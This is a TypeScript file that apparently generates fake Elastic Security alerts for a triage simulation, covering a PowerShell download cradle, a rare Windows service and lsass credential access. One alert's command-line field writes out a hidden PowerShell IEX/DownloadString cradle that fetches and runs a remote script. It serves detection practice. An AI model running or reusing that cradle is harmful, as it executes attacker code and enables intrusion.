import type { Scenario, Scene } from '../scenario.js';
import { FILES } from '../world.js';

interface Rule {
  name: string;
  severity: 'low' | 'medium' | 'high' | 'critical';
  risk: number;
  about: string;
  tags: string[];
  reason: string;
}

/** An alert document of Elastic Security, as the webhook connector of a rule sends it. */
const document = ({ dice, at, partner, user }: Scene, host: string, rule: Rule, event: object) => ({
  '@timestamp': at.toISOString(),
  partner: partner.name,
  'kibana.alert.uuid': dice.hex(64),
  'kibana.alert.rule.name': rule.name,
  'kibana.alert.rule.description': rule.about,
  'kibana.alert.rule.tags': rule.tags,
  'kibana.alert.severity': rule.severity,
  'kibana.alert.risk_score': rule.risk,
  'kibana.alert.reason': rule.reason,
  'kibana.alert.workflow_status': 'open',
  host: { name: host, os: { name: 'Windows', version: '10.0.22631' } },
  user: { name: user, domain: partner.windowsDomain },
  ...event,
});

export const elastic: readonly Scenario[] = [
  {
    name: 'powershell-download',
    weight: 5,
    hostile: true,
    outcomes: [
      ['benign', 'Software distribution of the IT department; script is signed'],
      ['benign', 'Administrator installed a module from the internal gallery'],
      ['malicious', 'Downloaded a loader; host was isolated and reinstalled'],
    ],
    notes: ['Command line decodes to a download cradle. Asking the user whether a document was opened.'],
    payload: (scene) =>
      document(
        scene,
        scene.laptop,
        {
          name: 'PowerShell Script with Download Cradle',
          severity: 'high',
          risk: 73,
          about: 'PowerShell fetched and ran code from a host that is new to this network.',
          tags: ['Domain: Endpoint', 'OS: Windows', 'Tactic: Execution', 'T1059.001'],
          reason: `process event with process powershell.exe, parent process WINWORD.EXE, by ${scene.user} on ${scene.laptop} created high alert PowerShell Script with Download Cradle.`,
        },
        {
          source: { ip: scene.inside(scene.laptop) },
          destination: { ip: scene.outsider.ip, port: 443, domain: scene.outsider.domain },
          process: {
            name: 'powershell.exe',
            pid: scene.dice.int(1200, 28_000),
            parent: { name: 'WINWORD.EXE' },
            command_line: `powershell.exe -nop -w hidden -c IEX(New-Object Net.WebClient).DownloadString('https://${scene.outsider.domain ?? scene.outsider.ip}/u/${scene.dice.hex(6)}.ps1')`,
            hash: { sha256: FILES.loader },
          },
        },
      ),
  },
  {
    name: 'rare-service',
    weight: 7,
    outcomes: [
      ['benign', 'Installed by the monitoring agent of the supplier'],
      ['benign', 'Change 4711 of the platform team'],
      ['suspicious', 'Unsigned, but known to the owner; told to sign it'],
    ],
    payload: (scene) =>
      document(
        scene,
        scene.server,
        {
          name: 'Unusual Windows Service Installed',
          severity: 'medium',
          risk: 47,
          about: 'A service was installed whose image was never seen on this network.',
          tags: ['Domain: Endpoint', 'OS: Windows', 'Tactic: Persistence', 'T1543.003'],
          reason: `Windows service RemoteAssist${scene.dice.int(2, 9)} installed on ${scene.server} by ${scene.user}.`,
        },
        {
          source: { ip: scene.inside(scene.server) },
          winlog: { event_id: '7045', channel: 'System' },
          file: { path: 'C:\\ProgramData\\RemoteAssist\\ra-svc.exe', hash: { sha256: FILES.updater } },
        },
      ),
  },
  {
    name: 'lsass-access',
    weight: 1.2,
    outcomes: [
      ['malicious', 'Credentials were dumped; passwords of all logged-in accounts were reset'],
      ['benign', 'Memory scan of the endpoint protection'],
      ['benign', 'Authorised red team exercise'],
    ],
    notes: ['Handle to lsass with 0x1fffff, from a binary in the Public folder. Treating it as credential theft.'],
    payload: (scene) =>
      document(
        scene,
        scene.server,
        {
          name: 'LSASS Memory Read by Unusual Process',
          severity: 'critical',
          risk: 91,
          about: 'A process without a history here opened the memory of lsass.exe for reading.',
          tags: ['Domain: Endpoint', 'OS: Windows', 'Tactic: Credential Access', 'T1003.001'],
          reason: `${scene.user} on ${scene.server} read the memory of lsass.exe with C:\\Users\\Public\\dbg.exe.`,
        },
        {
          source: { ip: scene.inside(scene.server) },
          process: { name: 'dbg.exe', executable: 'C:\\Users\\Public\\dbg.exe', hash: { sha256: FILES.stealer } },
        },
      ),
  },
];
